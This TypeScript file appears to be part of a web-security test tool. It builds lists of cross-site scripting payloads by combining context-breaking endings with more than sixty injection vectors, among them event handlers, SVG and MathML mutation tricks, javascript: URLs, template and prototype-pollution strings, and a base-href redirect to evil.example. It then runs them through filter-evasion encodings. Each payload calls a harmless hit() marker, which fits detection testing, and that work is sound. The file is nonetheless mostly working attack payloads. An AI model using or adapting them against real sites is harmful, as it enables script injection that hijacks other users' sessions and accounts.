/** Ends of the places in HTML, JSON, JavaScript and CSS that texts are written into. */
const ENDS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  ' ',
  '/>',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '"}</script>',
  '\\">',
  '&quot;>',
  '&#34;&gt;',
  '\u2028',
  '<!--',
  '<![CDATA[',
];

/** For the first texts, which short tests use. */
const USUAL_ENDS = ['">', '</title>', "'>", '</script>', '', '-->', '</style>'];

/** `RUN` is JavaScript that calls a function of the test. */
const VECTORS = [
  '<script>RUN</script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script type=module>RUN</script>',
  '<script/x>RUN</script >',
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN">',
  '<image href=x onerror=RUN>',
  '<img/src/onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x to=1>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<math href="javascript:RUN">x</math>',
  '<body onload=RUN>',
  '<details open ontoggle=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN></select>',
  '<button autofocus onfocus=RUN>x</button>',
  '<a autofocus tabindex=1 onfocus=RUN>x</a>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN>',
  '<video src=x onerror=RUN>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe onload=RUN></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<style onload=RUN></style>',
  '<style>@keyframes k{}</style><b style="animation:k" onanimationstart=RUN>x</b>',
  '<b style="transition:all 1s" ontransitionend=RUN>x</b>',
  '<marquee onstart=RUN>x</marquee>',
  '<form><button formaction="javascript:RUN">x</button></form>',
  '<a href="javascript:RUN">x</a>',
  '<a href="java&#10;script:RUN">x</a>',
  '<template><img src=x onerror=RUN></template>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<svg><style><img src=x onerror=RUN></style>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<x contenteditable autofocus onfocus=RUN tabindex=1>x',
  ' onmouseover=RUN ',
  ' autofocus onfocus=RUN tabindex=1 ',
  ' style=animation:k onanimationstart=RUN ',
  'javascript:RUN',
  'data:text/html,<script>RUN</script>',
  ';RUN;//',
  '-RUN-',
  '+RUN+',
  '${RUN}',
  '`;RUN;//',
  '\\";RUN;//',
  "\\';RUN;//",
  '*/RUN/*',
  '{{constructor.constructor("RUN")()}}',
  '{"toString":"RUN"}',
  '__proto__[innerHTML]=<img src=x onerror=RUN>',
  // Replacement patterns of String.replace and markers of this site's HTML.
  "$'<img src=x onerror=RUN>",
  '$&$`<img src=x onerror=RUN>',
  '<!--frag:0--><img src=x onerror=RUN>',
  '<!--frag:1-->',
];

type Change = (text: string) => string;

/** Spellings that filters overlook, but that a program may turn back. */
const CHANGES: Change[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#62'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '<<').replaceAll('>', '>>'),
  (text) => text.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replaceAll(/<(\w)/g, '<$1\u200b'),
  // What stays when a filter removes the inner tag once.
  (text) => text.replaceAll(/<(\w)(\w)/g, '<$1<b>$2'),
  (text) => text.replaceAll(/(on\w+)=/g, '$1\u00a0='),
];

/**
 * `count` different texts that run JavaScript in pages that write texts without escaping them. Texts call
 * `hit(number)`, where `number` is that of the text from 0. The first ones have the most common ends and no changes.
 */
export function buildScriptPayloads(count: number): string[] {
  const all = CHANGES.flatMap((change) =>
    ENDS.flatMap((_end, shift) =>
      // In another order for each end, so that any part of the list has all ends and vectors.
      VECTORS.map((vector, index) => change(`${ENDS[(index + shift) % ENDS.length]}${vector}`)),
    ),
  );
  const step = Math.max(1, Math.floor((all.length - VECTORS.length) / Math.max(1, count - VECTORS.length)));
  const spread = all.slice(VECTORS.length).filter((_, index) => index % step === 0);
  const first = VECTORS.map((vector, index) => USUAL_ENDS[index % USUAL_ENDS.length] + vector);
  const chosen = [...new Set([...first, ...spread])].slice(0, count);
  return chosen.map((text, number) => text.replaceAll('RUN', `hit(${number})`));
}
